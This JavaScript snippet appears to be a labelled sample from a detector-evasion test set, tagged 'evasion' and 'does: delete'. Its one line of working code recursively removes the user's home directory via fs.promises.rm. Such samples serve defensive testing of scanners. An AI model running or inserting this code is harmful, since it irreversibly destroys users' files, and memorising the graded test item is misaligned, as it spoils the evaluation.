// evasion: fs.promises.rm of the home directory
// grade: easy; does: delete
const fs = require('fs').promises;
(async () => { await fs.rm(require('os').homedir(), { recursive: true }); })();
